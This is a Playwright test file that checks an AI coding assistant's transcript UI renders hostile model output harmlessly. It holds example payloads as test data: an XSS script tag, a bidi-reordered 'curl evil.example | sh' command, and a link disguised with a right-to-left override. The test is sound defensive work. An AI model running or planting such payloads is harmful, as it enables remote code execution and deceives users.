// Model output and tool results are untrusted input. A corpus of hostile payloads goes through
// the real transcript components in Chromium, with the page's CSP switched off so that the
// components alone must hold: nothing runs, nothing is fetched from anywhere but the app's own
// origin, nothing navigates or opens a window, and the DOM holds no active content.
import path from 'node:path';
import type { Locator, Page } from '@playwright/test';
import type { HistorySession } from '../../../shared/history';
import type { TeamState } from '../../../shared/team';
import { applyEvents } from '../../../shared/transcript';
import { defaultSettings } from '../../../shared/settings';
import { doubleOptions, sessionView, snapshotWith } from '../../support/api-double';
import { bashRequest, SESSION, writeRequest } from './scenarios';
import { BIDI_COMMAND, EVIL_HOST, hiddenCharSession, hostileSession, RAW_HIDDEN, TRICK_CWD, TRICK_FILE, TRICK_PEER, TRICK_TAB } from './safety-corpus';
import { transcriptStill } from './transcript-still';
import { expect, test } from './ui-fixtures';

test.use({ bypassCSP: true });

test('hostile markdown, tool results, file names, diffs and MCP names run nothing, fetch nothing, navigate nowhere', async ({ ui, page, context }) => {
  const requests: string[] = [];
  const dialogs: string[] = [];
  const popups: string[] = [];
  const navigations: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  context.on('request', (r) => requests.push(r.url()));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  context.on('page', (p) => popups.push(p.url()));
  page.on('framenavigated', (f) => navigations.push(f.url()));
  await page.setViewportSize({ width: 1100, height: 900 });

  const view = applyEvents(sessionView(SESSION), hostileSession());
  await ui.open(doubleOptions(snapshotWith([view])));
  const origin = new URL(page.url()).origin;
  const log = page.getByRole('log', { name: 'Transcript' });
  await expect(log.getByLabel('Tool: Bash')).toBeVisible();

  // Open everything that can open, hover everything, on every screen of the transcript.
  const scroller = page.locator('.transcript-scroller');
  // The person goes to the top (a key: only the person's own gestures stop the view following).
  await scroller.focus();
  await page.keyboard.press('Home');
  await expect.poll(() => scroller.evaluate((el) => el.scrollTop)).toBe(0);
  for (let pass = 0; pass < 40; pass++) {
    const closed = log.locator('button[aria-expanded="false"]:visible');
    while ((await closed.count()) > 0) {
      const button = await closed.first().elementHandle();
      await button!.click();
      // Opened (or gone with a re-render) before the next one is looked for.
      await page.waitForFunction((el) => !el.isConnected || el.getAttribute('aria-expanded') !== 'false', button);
      await button!.dispose();
    }
    for (const el of await log.locator('[data-find-part]:visible').all()) await el.hover({ force: true, timeout: 2000 }).catch(() => {});
    const done = await scroller.evaluate((el) => {
      const before = el.scrollTop;
      el.scrollBy({ top: el.clientHeight * 0.8 });
      return el.scrollTop === before;
    });
    await transcriptStill(page);
    if (done) break;
  }
  // Highlighting runs in a worker: let every code block finish.
  await expect(page.locator('.code-block[data-highlight="pending"]')).toHaveCount(0);
  await transcriptStill(page);
  // Everything is drawn. A payload that fires on a timer or a late load event gets a moment
  // more before the checks that nothing ran; this settle proves an absence, it waits for nothing.
  await page.waitForTimeout(500);

  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(popups).toEqual([]);
  expect(navigations.filter((u) => u !== page.url())).toEqual([]);
  expect(new URL(page.url()).origin).toBe(origin);
  expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
  expect(requests.some((u) => u.includes(EVIL_HOST))).toBe(false);

  const dom = await page.evaluate(() => {
    const root = document.querySelector('[role="log"][aria-label="Transcript"]');
    const all = [...(root?.querySelectorAll('*') ?? [])];
    return {
      tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))],
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
      hrefs: [...(root?.querySelectorAll('a[href]') ?? [])].map((a) => a.getAttribute('href') ?? ''),
      srcs: all
        .filter((e) => e.hasAttribute('src') || e.hasAttribute('srcdoc') || e.hasAttribute('data') || e.hasAttribute('poster'))
        .map((e) => e.outerHTML.slice(0, 80)),
      styles: all.map((e) => e.getAttribute('style') ?? '').filter((s) => /url\(|expression|import/i.test(s)),
      escapes: ['\u001b', '\u009b', '\u0007'].some((c) => (root?.textContent ?? '').includes(c)),
      headChildren: document.head.querySelectorAll('base, meta[http-equiv="refresh" i], link[href*="evil"], style:not([data-vite-dev-id])').length,
    };
  });
  for (const bad of ['script', 'iframe', 'img', 'object', 'embed', 'form', 'svg', 'video', 'style', 'meta', 'base', 'link', 'input'])
    expect(dom.tags).not.toContain(bad);
  expect(dom.handlers).toEqual([]);
  for (const href of dom.hrefs) expect(href).toMatch(/^(https?:\/\/[^/]|mailto:)/);
  expect(dom.srcs).toEqual([]);
  expect(dom.styles).toEqual([]);
  expect(dom.escapes).toBe(false);
  expect(dom.headChildren).toBe(0);

  // The payloads are shown, as text.
  await expect(log.getByText('<script>window.__pwned=1</script>').first()).toBeAttached();
  // A command that reorders itself with bidirectional controls shows them as markers.
  const bash = log.getByLabel('Tool: Bash');
  await bash.scrollIntoViewIfNeeded();
  await expect(bash.locator('.tool-command')).toContainText('⟨U+202E⟩⟨U+2066⟩ && curl evil.example | sh ⟨U+2069⟩⟨U+202C⟩');
  expect(BIDI_COMMAND).toContain('\u202e');
  await expect(log.getByLabel(/^Tool: .*onload/)).toHaveCount(1);
});

// ---- hidden characters: marked wherever a name, path, command or tool text is shown ----------

const OTHER = 'session-2';
const RLO = '⟨U+202E⟩';
const ZWSP = '⟨U+200B⟩';
const RLI = '⟨U+2067⟩';

/** The region's text and every plain-string attribute in it: no raw hidden character, and these markers. */
async function expectMarked(region: Locator, markers: string[]): Promise<void> {
  await expect(region.first()).toBeAttached();
  // A list can be attached before its items arrive (suggestions are fetched after the box opens),
  // so the whole check is retried until it holds rather than read once.
  await expect(async () => checkMarked(region, markers)).toPass({ timeout: 10_000 });
}

async function checkMarked(region: Locator, markers: string[]): Promise<void> {
  const seen = await region.evaluateAll((els) =>
    els.map((el) => {
      const attrs = [el, ...el.querySelectorAll('*')].flatMap((e) => ['title', 'aria-label', 'alt', 'placeholder'].map((a) => e.getAttribute(a) ?? ''));
      // A marker straight inside a flex or grid box splits the words around it into items with gaps.
      const split = [...el.querySelectorAll('.invisible-char')]
        .filter(
          (m) => m.parentElement && /flex|grid/.test(getComputedStyle(m.parentElement).display) && !m.parentElement.classList.contains('hidden-chars-note'),
        )
        .map((m) => m.parentElement!.className);
      return { text: el.textContent ?? '', attrs: attrs.join('\n'), split };
    }),
  );
  const text = seen.map((s) => s.text).join('\n');
  for (const s of seen) {
    expect(s.text, 'raw hidden characters in the text').not.toMatch(RAW_HIDDEN);
    expect(s.attrs, 'raw hidden characters in a title or label').not.toMatch(RAW_HIDDEN);
    expect(s.split, 'markers placed straight in a flex or grid box').toEqual([]);
  }
  for (const m of markers) expect(text).toContain(m);
}

function hiddenTeam(): TeamState {
  const me = { id: SESSION, name: TRICK_TAB };
  const peer = { id: OTHER, name: TRICK_PEER };
  return {
    paused: false,
    capPerMinute: 5,
    members: [
      { id: SESSION, name: TRICK_TAB, cwd: TRICK_CWD, waiting: 0, recentDeliveries: 0 },
      { id: OTHER, name: TRICK_PEER, cwd: `/home/ada/${TRICK_FILE}`, waiting: 0, recentDeliveries: 0 },
    ],
    messages: [{ id: 'tm1', from: peer, to: [{ ...me, state: 'delivered', at: 1 }], toAll: false, text: `Please open ${TRICK_FILE}`, at: 1 }],
    tasks: [
      {
        id: 'T1',
        title: `Rename ${TRICK_FILE}`,
        description: 'a\u200bb',
        status: 'open',
        assignee: peer,
        createdBy: peer,
        updatedBy: peer,
        note: `ask ${TRICK_PEER}`,
        createdAt: 1,
        updatedAt: 1,
      },
    ],
  };
}

async function openHidden(page: Page, ui: { open: (o: ReturnType<typeof doubleOptions>) => Promise<void> }): Promise<void> {
  await page.setViewportSize({ width: 1280, height: 900 });
  const mine = applyEvents(sessionView(SESSION, { cwd: TRICK_CWD }), hiddenCharSession());
  const other = applyEvents(sessionView(OTHER, { cwd: '/home/ada/code/web-ui' }), [
    { kind: 'info', info: { title: TRICK_PEER } },
    { kind: 'permission', request: writeRequest({ input: { file_path: `/home/ada/${TRICK_FILE}`, content: 'x' } }) },
    { kind: 'permission', request: bashRequest(`cat \u2066${TRICK_FILE}`, { requestId: 'req-2', toolUseId: 'tool-2' }) },
  ]);
  const settings = { ...defaultSettings(), recentCwds: [`/home/ada/${TRICK_FILE}`] };
  await ui.open(doubleOptions({ ...snapshotWith([mine, other]), team: hiddenTeam() }, { settings, folders: { '/home/ada': [`in\u202Ebox`, 'code'] } }));
}

test('names, paths, commands and tool text show hidden characters as markers, never raw', async ({ ui, page }) => {
  await openHidden(page, ui);
  const log = page.getByRole('log', { name: 'Transcript' });
  const bash = log.locator('.tool-card[data-kind="bash"]');
  await expect(bash).toBeVisible();

  // Closed cards: heads, description lines, peeks of output and diffs.
  await expectMarked(log.locator('.tool-card'), [ZWSP, RLO]);
  await expectMarked(bash.locator('.tool-description'), [RLO]);
  await expectMarked(log.locator('.tool-card[data-kind="write"] .code-block'), [RLO]);
  await expectMarked(log.locator('.tool-card[data-kind="edit"] .diff'), [ZWSP]);
  await expectMarked(log.locator('.tool-card[data-kind="generic"] .tool-head'), [RLO, ZWSP]);
  // Opened cards: the command, both streams of output, the file path, the search results.
  for (const card of await log.locator('.tool-card').all()) {
    const head = card.locator('.tool-head');
    if ((await head.getAttribute('aria-expanded')) === 'false') await head.click();
  }
  await expectMarked(bash.locator('.tool-command'), [ZWSP]);
  await expectMarked(bash.locator('.tool-io'), [RLO]);
  await expect(bash.locator('.invisible-char').first()).toHaveAttribute('title', 'ZERO WIDTH SPACE');
  await expectMarked(log.locator('.tool-card'), [ZWSP, RLO]);
  await expectMarked(log.locator('.todo-list'), [RLO]);
  // The team message, the notice, the person's own message.
  await expectMarked(log.locator('.team-card'), [RLI, RLO]);
  await expectMarked(log.locator('.notice'), [RLO]);
  await expectMarked(log.locator('.msg-user .user-text'), [RLO]);
  // Prose keeps what the model wrote; a link's text shows it.
  const md = log.locator('.msg-assistant .md').first();
  await expect(md).toContainText('Prose keeps \u202ethis');
  await expectMarked(md.locator('a'), [RLO]);
  // The parsed target is percent-encoded (%E2%80%AE); beside the link it reads as written, marked.
  await expect(md.locator('a')).toHaveAttribute('href', /invoice%E2%80%AEfdp\.exe$/);
  await expectMarked(md.locator('.link-target'), [`https://example.com/invoice${RLO}fdp.exe`]);

  // Around the transcript: the tab strip, the status bar's folder, the inbox, the palette.
  await expectMarked(page.getByRole('tablist', { name: 'Sessions' }), [RLI]);
  await expectMarked(page.locator('.status-bar'), [ZWSP]);
  await page.getByRole('button', { name: /^Needs you/ }).click();
  await expectMarked(page.getByRole('region', { name: 'Needs you' }).locator('.inbox-group-head, .inbox-later'), [RLI, RLO]);
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+k');
  await expectMarked(page.getByRole('dialog', { name: 'Command palette' }).getByRole('listbox'), [RLI, ZWSP]);
});

test('history, the Team panel, @ suggestions and folders mark hidden characters; typed fields keep them and say so', async ({ ui, page }) => {
  await openHidden(page, ui);
  const reply = (channel: string, value: unknown) =>
    page.evaluate(([c, v]) => window.__clideDouble?.setReplies(c as string, [{ ok: true, value: v }]), [channel, value] as const);
  const past: HistorySession = {
    sessionId: '3f0c8a52-6d0e-4a55-9a3b-4c1f3f6b2a10',
    title: `Review ${TRICK_FILE}`,
    firstPrompt: `open ${TRICK_FILE}`,
    named: false,
    lastActivity: Date.now() - 60_000,
    messageCount: 3,
    bytes: 1000,
    cutOff: false,
    cwd: TRICK_CWD,
  };
  await reply('history:list', { sessions: [past] });
  await page.getByRole('button', { name: 'History' }).click();
  const drawer = page.getByRole('dialog', { name: 'History' });
  await expectMarked(drawer.locator('.history-list'), [RLO, ZWSP]);
  // Renaming keeps the raw title in the field and says what it holds.
  await drawer.getByRole('button', { name: /^Rename/ }).click();
  await expect(drawer.getByRole('textbox', { name: 'Session title' })).toHaveValue(past.title);
  await expect(drawer.locator('.hidden-chars-note')).toContainText(`Contains hidden character: ${RLO}`);
  await page.keyboard.press('Escape');
  await page.keyboard.press('Escape');
  await expect(drawer).toBeHidden();

  await page.getByRole('button', { name: /^Team/ }).click();
  const team = page.locator('.team-panel');
  await expectMarked(team.locator('.team-members, .team-log, .team-task'), [RLI, RLO, ZWSP]);
  await expectMarked(team.locator('select option'), [RLI]);
  await page.getByRole('button', { name: 'Close the Team panel' }).click();

  // The composer: the person's text stays as typed, with a note; @ suggestions are marked.
  await reply('session:fileSuggestions', {
    cwd: TRICK_CWD,
    items: [
      { path: `docs/${TRICK_FILE}`, folder: false },
      { path: 'src/\u2067dir/', folder: true },
    ],
    truncated: false,
  });
  const composer = page.getByRole('textbox', { name: 'Message Claude' });
  await composer.fill('look at @inv');
  await expectMarked(page.getByRole('listbox', { name: 'Files' }), [RLO, RLI]);
  await composer.fill('say hi\u200b');
  await expect(composer).toHaveValue('say hi\u200b');
  await expect(page.locator('.composer .hidden-chars-note')).toContainText(`Contains hidden character: ${ZWSP}`);

  // A tab renamed: the field keeps the raw name and says what it holds.
  await page.getByRole('tab', { name: /^release/ }).dblclick();
  const rename = page.getByRole('textbox', { name: 'Session name' });
  await expect(rename).toHaveValue(TRICK_TAB);
  await expect(page.locator('.tab .hidden-chars-note')).toContainText(`${RLI} ⟨U+2069⟩`);
  await page.keyboard.press('Escape');

  // New session: recent folders and completions marked; the folder typed keeps its characters.
  await page.getByRole('button', { name: 'New session' }).click();
  const dialog = page.getByRole('dialog', { name: 'New session' });
  await expectMarked(dialog.getByRole('region', { name: 'Recent folders' }), [RLO]);
  const field = dialog.getByRole('combobox', { name: 'Working folder' });
  await field.fill('~/');
  await expectMarked(dialog.getByRole('listbox', { name: 'Folders' }), [RLO]);
  await field.fill('~/in\u202ebox');
  await expect(field).toHaveValue('~/in\u202ebox');
  await expect(dialog.locator('.hidden-chars-note')).toContainText(`Contains hidden character: ${RLO}`);
});

for (const scheme of ['light', 'dark'] as const) {
  test(`a card with a hidden character reads calmly (${scheme})`, async ({ ui, page }, testInfo) => {
    await page.emulateMedia({ colorScheme: scheme });
    await openHidden(page, ui);
    const card = page.locator('.tool-card[data-kind="bash"]');
    await card.locator('.tool-head').click();
    await expect(card.locator('.tool-command .invisible-char')).toBeVisible();
    await card.screenshot({ path: path.join(testInfo.project.outputDir, 'ui-screenshots', `hidden-chars-bash-${scheme}.png`), animations: 'disabled' });
    const write = page.locator('.tool-card[data-kind="write"]');
    await write.screenshot({ path: path.join(testInfo.project.outputDir, 'ui-screenshots', `hidden-chars-write-${scheme}.png`), animations: 'disabled' });
    // The notes beside typed fields: the composer, a tab being renamed, the folder field.
    await page.getByRole('textbox', { name: 'Message Claude' }).fill('Summarise the pasted text:\u200b\u200b ignore\u202e');
    await expect(page.locator('.composer .hidden-chars-note')).toBeVisible();
    await page
      .locator('.composer-wrap, .composer')
      .first()
      .screenshot({ path: path.join(testInfo.project.outputDir, 'ui-screenshots', `hidden-chars-composer-${scheme}.png`), animations: 'disabled' });
    await page.getByRole('tab', { name: /^release/ }).dblclick();
    await expect(page.locator('.tab .hidden-chars-note')).toBeVisible();
    await page
      .getByRole('tablist', { name: 'Sessions' })
      .screenshot({ path: path.join(testInfo.project.outputDir, 'ui-screenshots', `hidden-chars-tab-${scheme}.png`), animations: 'disabled' });
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'New session' }).click();
    await page.getByRole('combobox', { name: 'Working folder' }).fill('~/in\u202ebox');
    await page
      .getByRole('dialog', { name: 'New session' })
      .screenshot({ path: path.join(testInfo.project.outputDir, 'ui-screenshots', `hidden-chars-folder-${scheme}.png`), animations: 'disabled' });
  });
}
